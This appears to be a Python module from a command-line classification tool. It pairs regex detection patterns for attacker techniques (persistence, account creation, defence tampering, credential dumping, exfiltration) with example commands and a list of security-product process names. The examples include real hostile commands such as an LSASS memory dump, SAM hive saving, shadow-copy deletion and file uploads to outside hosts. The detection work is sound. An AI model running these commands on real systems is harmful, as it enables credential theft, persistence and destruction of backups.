"""What command lines do to a machine and its secrets: rows of traits, as ``meanings`` has of what they name."""

from longtail.executions.meaning import Row, Says, Trait

_AT_LOGON = r"(?:sethc|utilman|osk|magnify|narrator|displayswitch|atbroker)\.exe\b"
"""What Windows runs for anybody before logging on (T1546.008)."""
_PROTECTION = (
    r"\b(?:msmpeng|nissrv|windefend|wdnissvc|wdfilter|sense|mssense|securityhealthservice|wscsvc|sysmon(?:64|drv)?"
    r"|360\w+|zhudongfangyu|qqpc\w+|avp|avpsus|kav\w*|klnagent|ekrn|egui|mcshield|masvc|mfe\w+|ccsvchst|rtvscan"
    r"|sepmasterservice|sav(?:service|adminservice)|sophos[\w -]*|sentinel(?:agent|one|\w*service\w*)|csfalcon\w*"
    r"|csagent|cbdefense|carbonblack\w*|repmgr|xagt|cylance\w*|bdagent|vsserv|epsecurityservice|avast\w*|avg(?:svc|ui)"
    r"|ntrtscan|tmlisten|tmccsf|ds_agent|wrsa|mbam\w*|cyserver|cortex\w*|wdavdaemon|mdatp|falcon-sensor|auditd|ossec\w*"
    r"|wazuh\w*|osqueryd|elastic-(?:agent|endpoint)|aliyundun\w*|aliyun\w*|cloudmonitor|ydservice|qcloud\w*|clamd"
    r"|apparmor|fail2ban)\b"
)
"""The processes and services of protection products that intruders stop first, as their vendors name them."""

DEEDS: tuple[Row, ...] = (
    Row(
        Trait.CHANGES_ACCOUNTS,
        (),
        Says(
            {
                "net net1": r"^(?:user|localgroup|group)\s.*(?:-add|-delete|-active|-passwordreq)|^user\s+\S+\s+[^-\s]",
                "useradd adduser usermod userdel deluser groupadd gpasswd chpasswd passwd": r"^(?!-S)\S",
                "new-localuser add-localgroupmember set-localuser remove-localuser new-aduser add-adgroupmember": r"",
                "wmic": r"^useraccount\b.*\b(?:set|rename|delete)\b",
                "dsadd dsmod": r"^(?:user|group)\b",
            }
        ),
        ('cmd /c "net user bob P@ss1 /add"', "net1 localgroup administrators bob /ADD"),
        ("net user bob", "net use z: \\\\fs01\\share"),
    ),
    Row(
        Trait.PERSISTS,
        (),
        Says(
            {
                "schtasks": r"-(?:create|change)\b",
                "sc": r"^(?:\\\\\S+\s+)?create\b|^(?:\\\\\S+\s+)?config\b.*\bbinpath=",
                "reg": r"^add\b.*(?:\\run(?:once|services)?(?:ex)?\b|image file execution options|\\winlogon\b"
                r"|\\services\\|userinitmprlogonscript|silentprocessexit|appinit_dlls)",
                "at": r"\d{1,2}:\d\d\S*\s+\S|^now\b",
                "crontab": r"^(?!-l|-u\s+\S+\s+-l)\S",
                "systemctl": r"^(?:-\S+\s+)*enable\b",
                "new-service register-scheduledtask new-scheduledtask register-scheduledjob set-service": r"",
                "bitsadmin": r"-setnotifycmdline\b",
                "echo printf tee cp mv copy move": r"[\\/]cron(?:tab|\.d|\.daily|\.hourly)?\b|[\\/]startup[\\/]"
                r"|[\\/]systemd[\\/]system[\\/]|authorized_keys|[\\/]spool[\\/]cron",
            }
        ),
        (
            "schtasks /create /tn n /tr C:\\Users\\Public\\x.exe /sc daily",
            'cmd /c reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "c:\\x.exe"',
        ),
        ("schtasks /query /fo csv", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
    ),
    Row(
        Trait.OPENS_A_WAY_IN,
        ("authorized_keys", "/etc/", "wwwroot", "aspnet_client", "webapps", "htdocs", "/var/www", "httpproxy"),
        Says(
            {
                "net net1": r"-active:y|^(?:local)?group\b.*admin.*-add\b",
                "add-localgroupmember add-adgroupmember": r"admin",
                "usermod gpasswd adduser": r"\b(?:sudo|wheel|docker)\b",
                "useradd": r"-u\s*0\b",
                "reg set-itemproperty new-itemproperty": r"fdenytsconnections\b.*\b(?:0x)?0\b"
                rf"|\b{_AT_LOGON}.*\bdebugger\b",
                "copy move xcopy takeown": rf"[\\/]{_AT_LOGON}",
                "chmod": r"\+s\b.*sh\b|\b[246]7[0-7]{2}\s.*sh\b",
                "netsh": r"portproxy\b.*\badd\b",
                "*": r">\s*\S{0,200}(?:authorized_keys|/etc/(?:sudoers|passwd|shadow))\b"
                r"|>\s*\S{0,200}(?:wwwroot|aspnet_client|webapps|htdocs|/var/www|httpproxy)\S{0,200}"
                r"\.(?:aspx?|ashx|asmx|jspx?|php\d?|phtml|cfm)\b",
            }
        ),
        ("net localgroup administrators guest /add", "sh -c 'echo ssh-rsa AAAA r@k >> ~/.ssh/authorized_keys'"),
        ("net localgroup administrators", "cmd /c copy D:\\build\\index.aspx C:\\inetpub\\wwwroot\\index.aspx"),
    ),
    Row(
        Trait.OPENS_FIREWALL,
        (),
        Says(
            {
                "netsh": r"firewall\b.*\badd\b",
                "new-netfirewallrule": r"",
                "iptables ip6tables": r"(?:^|\s)-[ai]\s.*-j\s+accept\b",
                "ufw": r"^allow\b",
                "firewall-cmd": r"-add-(?:port|service|rich-rule|source)\b",
            }
        ),
        (
            "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=1433",
            "sh -c 'iptables -A INPUT -p tcp --dport 8443 -j ACCEPT'",
        ),
        ("netsh advfirewall set allprofiles state off", "iptables -L -n"),
    ),
    Row(
        Trait.ANSWERS_TO_A_SHARE,
        ("$\\",),
        Says({"*": r">\s?\\\\[^\\\s]{1,255}\\(?:admin|ipc|[a-z])\$\\"}),
        (
            "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.12 2>&1",
            'cmd.exe /c "tasklist /v" > \\\\srv1\\C$\\Windows\\Temp\\o.txt',
        ),
        ("robocopy D:\\backup \\\\nas\\d$\\backup /mir", "cmd /c dir > \\\\nas\\logs\\dir.txt"),
    ),
    Row(
        Trait.SENDS_AWAY,
        (),
        Says(
            {
                "curl": r"(?:^|\s)-{1,2}(?:t|upload-file)\s|(?:^|\s)-{1,2}(?:f|form)\s+\S{1,100}=@",
                "wget": r"-post-file\b",
                "rclone": r"\b(?:copy|sync|move|copyto|moveto)\b",
                "bitsadmin": r"-upload\b",
                "invoke-restmethod invoke-webrequest irm iwr": r"-infile\b",
                "mega-put megaput megacmd megatools": r"",
                "azcopy aws gsutil s3cmd": r"\b(?:cp|copy|sync|put)\b.*\b(?:s3|gs|https)://",
            }
        ),
        ("curl -T C:\\Temp\\x.7z ftp://198.51.100.7/", "C:\\PerfLogs\\rclone.exe copy E:\\Backup mega:x"),
        ("curl -o x.zip https://example.com/x.zip", "rclone listremotes"),
    ),
    Row(
        Trait.WEAKENS_DEFENCE,
        (),
        Says(
            {
                "netsh": r"firewall\b.*\b(?:off|disable)\b",
                "set-mppreference add-mppreference": r"disable|exclusion",
                "mpcmdrun": r"-removedefinitions",
                "vssadmin": r"^(?:delete\s+shadows|resize\s+shadowstorage)",
                "wmic": r"shadowcopy\b.*delete",
                "wbadmin": r"^delete\b",
                "bcdedit": r"-set\b.*(?:recoveryenabled\s+no|ignoreallfailures|testsigning)",
                "wevtutil": r"^(?:cl|clear-log)\b|^sl\b.*-e:false",
                "clear-eventlog remove-eventlog": r"",
                "auditpol": r"-(?:clear|remove)\b|-(?:success|failure):disable",
                "reg": r"^add\b.*(?:windows defender|\\policies\\system).*\b(?:disable|enablelua)"
                r"|^add\b.*\b(?:uselogoncredential|localaccounttokenfilterpolicy)\b.*-d\s+(?:0x)?1\b"
                r"|^add\b.*\b(?:runasppl|disablerestrictedadmin)\b.*-d\s+(?:0x)?0\b",
                "iptables ip6tables nft": r"(?:^|\s)(?:-f|-flush|flush)\b|-p\s+\w+\s+accept",
                "ufw": r"^disable\b",
                "setenforce": r"^(?:0|permissive)\b",
                "history": r"-c\b",
                "taskkill tskill pskill pskill64 pkill killall stop-process stop-service spps spsv kill": _PROTECTION,
                "ntsd cdb windbg": rf"-pn?\b.*{_PROTECTION}",
                "sc": rf"\b(?:stop|delete|config)\b.*{_PROTECTION}",
                "net net1": rf"^stop\b.*{_PROTECTION}",
                "systemctl service": rf"\b(?:stop|disable|mask|kill)\b.*{_PROTECTION}|{_PROTECTION}.*\bstop\b",
            }
        ),
        ("vssadmin  delete shadows /all /quiet", "cmd /c netsh advfirewall set allprofiles state off"),
        ("netsh advfirewall show allprofiles", "vssadmin list shadows"),
    ),
    Row(
        Trait.TAKES_CREDENTIALS,
        ("sekurlsa", "lsadump", "comsvcs", "ntds"),
        Says(
            {
                "reg": r"^(?:save|export)\s+(?:\\\\[^\\\s]+\\)?(?:hklm|hkey_local_machine)\\"
                r"(?:sam|security|system(?:\\(?:currentcontrolset|controlset\d+)(?:\\control(?:\\lsa)?)?)?)(?![\w\\])"
                r"|^query\b.*(?:-f\s+\S{0,20}passw|\bdefaultpassword\b)",
                "type cat more less head tail": r"/etc/g?shadow\b",
                "getent": r"^g?shadow\b",
                "procdump procdump64 rundll32 sqldumper nanodump": r"\blsass(?:\.exe)?\b|minidump\s+\d",
                "cmdkey": r"-list\b",
                "vaultcmd": r"-list(?:creds|credentials)",
                "cp scp tar zip 7z": r"/etc/g?shadow\b|\.ssh[\\/]id_|\bntds\.dit\b",
                "copy esentutl": r"\bntds(?:\.dit)?\b|config\\sam\b",
                "ntdsutil": r"\bifm\b|\bcreate (?:full|nofull|sysvol|rodc)\b",
                "*": r"sekurlsa::|lsadump::|comsvcs(?:\.dll)?\s*,?\s*(?:minidump|#\+?24)\b"
                r"|ac(?:tivate)? i(?:nstance)? ntds\b.{0,80}?\b(?:ifm|create (?:full|nofull|sysvol|rodc))\b",
            }
        ),
        (
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
            "reg save HKLM\\SAM C:\\Users\\Public\\s.hiv",
        ),
        ("reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\x x.reg", "cmdkey /?"),
    ),
    Row(
        Trait.READS_PASSWORDS,
        (),
        Says(
            {
                "findstr find grep egrep zgrep select-string": r"(?<!etc/)passw(?:or)?d|\bcredential",
                "type cat more less head tail": r"unattend(?:ed)?\.xml|sysprep\.(?:inf|xml)|wp-config\.php"
                r"|\.aws[\\/]credentials|\.pgpass\b|\.my\.cnf|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\bweb\.config\b"
                r"|\btomcat-users\.xml|\bconfluence\.cfg\.xml|\bdbconfig\.xml|\bdatabase\.yml|[\\/ ]\.env\b"
                r"|\bcredentials\.xml|\bhudson\.util\.secret|[\\/]secrets[\\/]\S{0,60}\.key\b|\.git-credentials|\.netrc\b"
                r"|\.kube[\\/]config|\.docker[\\/]config\.json|\.tfstate\b|\b(?:configuration|settings)\.php\b",
                "appcmd": r"^list\b.*-(?:text:(?:\*|\S{0,60}passw)|config\b)",
                "aspnet_regiis": r"-pdf?\b",
                "sqlcmd osql isql bcp invoke-sqlcmd": r"\bpassword_hash\b|\bpasswordhash\b",
                "psql": r"\brolpassword\b|\bpg_shadow\b",
                "mysql mariadb": r"\bauthentication_string\b",
            }
        ),
        ("appcmd.exe list apppool /text:*", "cat /var/lib/jenkins/secrets/master.key"),
        ("cat conf/server.xml", "appcmd list apppool /text:name"),
    ),
)
"""In the order of ``Trait``."""
